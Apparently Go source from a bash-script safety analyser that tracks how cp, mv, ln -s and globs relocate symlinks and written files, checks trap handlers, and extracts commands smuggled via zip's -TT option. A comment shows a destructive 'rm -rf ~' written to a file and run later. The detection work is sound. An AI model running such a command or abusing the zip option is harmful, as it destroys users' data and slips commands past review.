		key := dir + "\x00" + p.Access + "\x00" + strings.Join(p.findNames, "\x00") + "\x00" + strconv.Itoa(idx) + "\x00" + strconv.FormatBool(p.tracked)
		if r.entryWalks[key] {
			continue
		}
		if r.entryWalks == nil {
			r.entryWalks = map[string]bool{}
		}
		r.entryWalks[key] = true
		var keep func(string) bool
		names := p.findNames
		var tracked func(string) bool
		if p.tracked {
			tracked = r.gitLinks(dir, st)
		}
		if names != nil || tracked != nil {
			keep = func(link string) bool {
				return (names == nil || passesNames(names, path.Base(link))) && (tracked == nil || tracked(link))
			}
		}
		if !r.linksUnder(dir, p.Access, idx, name, st, &budget, keep) {
			return
		}
	}
}

// cpLinks: cp -s makes symbolic links to its sources; cp -d/-P/-a (and -r,
// which copies the links below a directory as links) copies symbolic links
// as links, and mv (move) moves them. Later paths through the new link
// resolve to where it points, as for ln -s. A relative link is read from
// where it lands, not from where it was made: ln -s ../home a/k points into
// the workspace, a/k moved to ./k points out of it.
func (r *run) cpLinks(args []field, st *state, move bool) {
	args = expandArgs(args, cpMvLongs...)
	makes, keeps, derefs := false, move, false
	var ops []field
	targetDir := ""
	for k := 0; k < len(args); k++ {
		a := args[k]
		t := a.text
		switch {
		case a.dynamic && !strings.HasPrefix(t, "-") && len(r.links) > 0:
			// find … -exec mv {} .: which of the links the script made
			// lands where is known only when it runs
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "moves or copies " + t + ", with links the script made", Cmd: -1})
			return
		case a.dynamic:
			return // which files: known only when it runs
		case t == "--":
			ops = append(ops, args[k+1:]...)
			k = len(args)
		case t == "-t" || t == "--target-directory":
			if k+1 < len(args) {
				k++
				if args[k].dynamic {
					return
				}
				targetDir = args[k].text
			}
		case strings.HasPrefix(t, "--target-directory="):
			targetDir = strings.TrimPrefix(t, "--target-directory=")
		case t == "-S" || t == "--suffix":
			k++ // the backup suffix
		case t == "--symbolic-link":
			makes = true
		case t == "--no-dereference" || t == "--archive" || t == "--recursive" || strings.HasPrefix(t, "--preserve=") && strings.Contains(t, "links"):
			keeps = true
		case t == "--dereference":
			derefs = true
		case strings.HasPrefix(t, "--"):
		case strings.HasPrefix(t, "-") && len(t) > 1:
			letters := t[1:]
			if i := strings.IndexAny(letters, "tS"); i >= 0 {
				// -t DIR, -S SUFFIX: the rest of the word or the next one
				v := letters[i+1:]
				if v == "" && k+1 < len(args) {
					k++
					v = args[k].text
				}
				if letters[i] == 't' {
					targetDir = v
				}
				letters = letters[:i]
			}
			if !move {
				makes = makes || strings.ContainsRune(letters, 's')
				keeps = keeps || strings.ContainsAny(letters, "dParR")
				derefs = derefs || strings.ContainsAny(letters, "LH")
			}
		default:
			ops = append(ops, a)
		}
	}
	if derefs && !makes {
		keeps = false
	}
	if !makes && !keeps || st.cwd == "" {
		return
	}
	abs := func(p string) string { return r.absIn(st, p) }
	srcs := ops
	dst, intoDir := targetDir, true
	if targetDir == "" {
		if len(ops) < 2 {
			return
		}
		srcs, dst = ops[:len(ops)-1], ops[len(ops)-1].text
		intoDir = len(ops) > 2 || strings.HasSuffix(dst, "/") || (r.isDir(st, ops[len(ops)-1]) || r.resolvesToDir(abs(dst))) && !r.moved[r.entry(abs(dst))]
	}
	// a glob that matched nothing on disk may match links the script made
	// (mv a/* .)
	var expanded []string
	for _, src := range srcs {
		pattern := src.text
		if hasGlobMeta(src.pattern) {
			pattern = src.pattern // an entry a lister printed: a/{} is a/*
		}
		if src.glob || hasGlobMeta(pattern) {
			dir := r.entry(abs(path.Dir(pattern)))
			pat := path.Base(pattern)
			for _, l := range slices.Sorted(maps.Keys(r.links)) {
				if ok, _ := path.Match(pat, path.Base(l)); ok && path.Dir(l) == dir {
					expanded = append(expanded, l)
				}
			}
		}
		expanded = append(expanded, abs(src.text))
	}
	if r.links == nil {
		r.links = map[string]string{}
	}
	for _, from0 := range expanded {
		link := abs(dst)
		if strings.HasSuffix(from0, "/.") {
			// cp -a a/. .: what a holds goes into the destination itself
			from0 = strings.TrimSuffix(from0, "/.")
		} else if intoDir {
			link = strings.TrimRight(link, "/") + "/" + path.Base(strings.TrimRight(from0, "/"))
		}
		link = r.entry(link)
		from := r.entry(from0)
		if makes {
			if target, _, _ := r.resolve(from0); target != "" {
				r.links[link] = target
			}
			continue
		}
		r.carryLinks(from, link, move)
	}
}

// cpMvLongs are the long options of cp and mv, for expandLong.
var cpMvLongs = strings.Fields(`--archive --attributes-only --backup --copy-contents --debug --dereference --exchange
--force --interactive --link --no-clobber --no-copy --no-dereference --no-preserve --no-target-directory --one-file-system
--parents --preserve --recursive --reflink --remove-destination --sparse --strip-trailing-slashes --suffix
--symbolic-link --target-directory --update --verbose --context --keep-directory-symlink`)

// knownTexts are the words' texts when every one is known (none is an
// empty list), else nil.
func knownTexts(fs []field) []string {
	out := make([]string, 0, len(fs))
	for _, f := range fs {
		if f.dynamic || f.glob {
			return nil
		}
		out = append(out, f.text)
	}
	return out
}

// absIn is p made absolute from st's working directory.
func (r *run) absIn(st *state, p string) string {
	if strings.HasPrefix(p, "/") || st.cwd == "" {
		return p
	}
	return st.cwd + "/" + p
}

// resolvesToDir says whether p, resolved as the analysis resolves paths
// (a/.. with a made by the script), is a directory on disk.
func (r *run) resolvesToDir(p string) bool {
	real, exists, _ := r.resolve(p)
	if !exists {
		// a/.. with a not made yet: the directory a is in
		real = path.Clean(p)
	}
	if r.madeDirs[real] || r.madeDirs[path.Clean(p)] {
		return true // made by the script's mkdir
	}
	fi, err := os.Stat(real)
	return err == nil && fi.IsDir()
}

// entry is where a path's last component lies, the link itself when it is
// one: its directory resolved, the component not followed.
func (r *run) entry(p string) string {
	for strings.Contains(p, "/./") {
		p = strings.ReplaceAll(p, "/./", "/")
	}
	p = strings.TrimSuffix(strings.TrimRight(p, "/"), "/.")
	p = strings.TrimRight(p, "/")
	dir, _, _ := r.resolve(path.Dir(p))
	return strings.TrimRight(dir, "/") + "/" + path.Base(p)
}

// carryLinks records what moving (move) or copying the entry from to the
// entry to does to symbolic links: from itself when it is one, and the
// links below it (the script's, and those on disk below a directory), each
// read again from its new place. A moved entry is gone from where it was.
func (r *run) carryLinks(from, to string, move bool) {
	if r.links == nil {
		r.links = map[string]string{}
	}
	moved := map[string]string{} // old link → new link
	if r.isLink(from) {
		moved[from] = to
	}
	for l := range r.links {
		if under(l, from) && l != from {
			moved[l] = to + l[len(from):]
		}
	}
	// and the links on disk below a directory moved or copied (made by an
	// earlier call: mkdir -p a/b; ln -s ../../x a/b/k, then mv a/b z)
	budget := linkWalkBudget
	diskLinksUnder(from, &budget, func(l string) { moved[l] = to + l[len(from):] })
	if budget < 0 {
		// too many entries to look at: a link left unread would be
		// judged where it was, not where it lands
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "walk_budget", Text: from, Cmd: -1})
	}
	for old, nl := range moved {
		text := r.linkText(old)
		if text == "" {
			continue
		}
		if !strings.HasPrefix(text, "/") {
			text = path.Dir(nl) + "/" + text
		}
		target, _, _ := r.resolve(path.Clean(text))
		if move {
			delete(r.links, old)
		}
		r.links[nl] = target
		if r.linkTexts == nil {
			r.linkTexts = map[string]string{}
		}
		r.linkTexts[nl] = r.linkText(old)
		if _, err := os.Lstat(nl); err == nil && r.moved[nl] {
			// the disk still shows what was moved away from there
			if r.overDisk == nil {
				r.overDisk = map[string]bool{}
			}
			r.overDisk[nl] = true
		}
	}
	if move {
		if r.moved == nil {
			r.moved = map[string]bool{}
		}
		r.moved[from] = true
		delete(r.moved, to)
	}
}

// carryWritten carries what the script wrote to a file (r.written, whose
// text is analysed when the file is run) to where cp, install or mv
// (move) puts it: echo 'rm -rf ~' > t; mv t s; bash s runs that text. A
// destination whose new content the script did not write is forgotten.
func (r *run) carryWritten(args []field, st *state, move bool) {
	if st.cwd == "" || len(r.written) == 0 && len(r.opaqueDirs) == 0 {
		return
	}
	args = expandArgs(args, cpMvLongs...)
	var ops []field
	targetDir := ""
	for k := 0; k < len(args); k++ {
		t := args[k].text
		switch {
		case args[k].dynamic && !strings.HasPrefix(t, "-"):
			// which file goes where is known only when it runs: the
			// files the script wrote may be anywhere
			for p := range r.written {
				r.written[p] = nil
			}
			return
		case t == "--":
			ops = append(ops, args[k+1:]...)
			k = len(args)
		case t == "-t" || t == "--target-directory" || t == "-S" || t == "--suffix" || t == "-m" || t == "--mode" || t == "-o" || t == "-g" || t == "--owner" || t == "--group":
			if k+1 < len(args) {
				k++
				if t == "-t" || t == "--target-directory" {
					targetDir = args[k].text
				}
			}
		case strings.HasPrefix(t, "--target-directory="):
			targetDir = strings.TrimPrefix(t, "--target-directory=")
		case strings.HasPrefix(t, "-") && len(t) > 1:
		default:
			ops = append(ops, args[k])
		}
	}
	abs := func(p string) string { return r.absIn(st, p) }
	srcs, dst, intoDir := ops, targetDir, true
	if targetDir == "" {
		if len(ops) < 2 {
			return
		}
		srcs, dst = ops[:len(ops)-1], ops[len(ops)-1].text
		intoDir = len(ops) > 2 || strings.HasSuffix(dst, "/") || r.resolvesToDir(abs(dst))
	}
	for _, src := range srcs {
		to := abs(dst)
		if intoDir {
			to = strings.TrimRight(to, "/") + "/" + path.Base(src.text)
		}
		from, _, _ := r.resolve(abs(src.text))
		toReal, _, _ := r.resolve(to)
		if strings.HasSuffix(src.text, "/.") || strings.HasSuffix(src.text, "/") && !intoDir {
			toReal, _, _ = r.resolve(abs(dst)) // a/. : what a holds
		}
		content, written := r.written[from]
		if written {
			r.written[toReal] = content
			if move {
				delete(r.written, from)
			}
		} else {
			delete(r.written, toReal)
		}
		// a directory copied or moved: what the script wrote below it
		for _, k := range slices.Sorted(maps.Keys(r.written)) {
			if k != from && under(k, from) {
				r.written[toReal+k[len(from):]] = r.written[k]
				if move {
					delete(r.written, k)
				}
			}
		}
	}
}

// diskLinksUnder calls found for each symbolic link below the directory
// dir (not itself followed when a link), reading at most *budget entries
// (*budget < 0 after: some were left unread).
func diskLinksUnder(dir string, budget *int, found func(string)) {
	fi, err := os.Lstat(dir)
	if err != nil || !fi.IsDir() {
		return
	}
	ents, _ := readDir(dir)
	for _, e := range ents {
		if *budget--; *budget < 0 {
			return
		}
		p := dir + "/" + e.Name()
		switch {
		case e.Type()&os.ModeSymlink != 0:
			found(p)
		case e.IsDir():
			diskLinksUnder(p, budget, found)
		}
	}
}

// plainHandler says whether a trap handler only reports (echo, printf
// without -v, true, exit, return …) and so changes nothing the commands
// after it depend on.
func plainHandler(body string) bool {
	f, err := parseBash(body)
	if err != nil {
		return false
	}
	ok := true
	syntax.Walk(f, func(n syntax.Node) bool {
		switch x := n.(type) {
		case nil, *syntax.File, *syntax.Stmt, *syntax.Word, *syntax.Lit, *syntax.SglQuoted, *syntax.DblQuoted:
		case *syntax.ParamExp:
			if x.Exp != nil && (x.Exp.Op == syntax.AssignUnset || x.Exp.Op == syntax.AssignUnsetOrNull) {
				ok = false
			}
		case *syntax.CallExpr:
			if len(x.Assigns) > 0 || len(x.Args) == 0 {
				ok = false
				break
			}
			switch x.Args[0].Lit() {
			case "echo", "true", ":", "false", "exit", "return", "logger":
			case "printf":
				for _, a := range x.Args[1:] {
					if strings.HasPrefix(a.Lit(), "-v") {
						ok = false
					}
				}
			default:
				ok = false
			}
		default:
			ok = false // a redirection, a substitution, a compound command …
		}
		return ok
	})
	return ok
}

// linkAt says whether the word f names a symbolic link (the script's or
// one on disk) itself, its parents resolved.
func (r *run) linkAt(st *state, f field) bool {
	if f.dynamic || st.cwd == "" && !strings.HasPrefix(f.text, "/") {
		return false
	}
	return r.isLink(r.entry(r.absIn(st, f.text)))
}

// isLink says whether p (an entry, its parents resolved) is a symbolic link
// the script made or one on disk.
func (r *run) isLink(p string) bool {
	if _, ok := r.links[p]; ok {
		return true
	}
	fi, err := os.Lstat(p)
	return err == nil && fi.Mode()&os.ModeSymlink != 0
}

// linkText is what the link at p holds: the text the script gave it (ln
// -s), else the link on disk; "" when neither is known.
func (r *run) linkText(p string) string {
	if t, ok := r.linkTexts[p]; ok {
		return t
	}
	if t, ok := r.links[p]; ok {
		return t // its target, resolved when it was made
	}
	t, _ := os.Readlink(p)
	return t
}

// whole is names when the argument is the item as a whole (xargs -I{} cat
// {}), else nil: a name built from the item passes no test of it.
func whole(names []string, isWhole bool) []string {
	if !isWhole {
		return nil
	}
	return names
}

// setShopt records a shell option the script turns on, when it changes
// what globs match.
func (r *run) setShopt(name string) {
	switch name {
	case "globstar", "dotglob", "nocaseglob", "nocasematch", "lastpipe", "xpg_echo", "nullglob":
		if r.shopts == nil {
			r.shopts = map[string]bool{}
		}
		r.shopts[name] = true
	}
}

// zipTestCommand returns the command of zip's -TT/--unzip-command given in
// one argument: --unzip-command=CMD (or an abbreviation), -TT=CMD, -TTCMD.
func zipTestCommand(t string) (string, bool) {
	if k, v, ok := strings.Cut(t, "="); ok && len(k) >= 4 && strings.HasPrefix("--unzip-command", k) {
		return v, true
	}
	if v, ok := strings.CutPrefix(t, "-TT"); ok && v != "" {
		return strings.TrimPrefix(v, "="), true
	}
	return "", false
}
